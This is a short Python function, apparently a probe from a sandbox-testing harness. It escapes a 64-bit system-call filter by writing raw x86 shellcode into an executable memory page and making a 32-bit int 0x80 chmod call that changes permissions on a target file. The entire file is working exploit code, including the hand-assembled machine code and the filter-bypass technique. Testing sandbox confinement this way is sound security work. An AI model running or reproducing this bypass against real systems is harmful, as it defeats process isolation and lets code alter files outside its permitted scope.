"""changes a mode by a 32-bit system call, whose numbers a 64-bit filter misreads"""

import ctypes
import os


def attack():
    if os.uname().machine != "x86_64":
        raise OSError("the code is x86_64's")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    # Writable, executable, private, anonymous, and below 2 GB (MAP_32BIT).
    page = libc.mmap(None, 8192, 7, 0x62, -1, 0)
    if page in (None, 2**64 - 1):
        raise OSError(ctypes.get_errno(), "no page")
    path = os.fsencode(TARGETS["neighbour"]) + b"\0"
    code = b"\x53\xb8\x0f\0\0\0\xbb" + (page + 4096).to_bytes(4, "little")
    code += b"\xb9" + (0o604).to_bytes(4, "little") + b"\xcd\x80\x5b\xc3"
    ctypes.memmove(page, code, len(code))
    ctypes.memmove(page + 4096, path, len(path))
    before = os.stat(TARGETS["neighbour"]).st_mode
    ctypes.CFUNCTYPE(ctypes.c_int)(page)()
    if os.stat(TARGETS["neighbour"]).st_mode != before:
        reached("a 32-bit call has changed the mode")
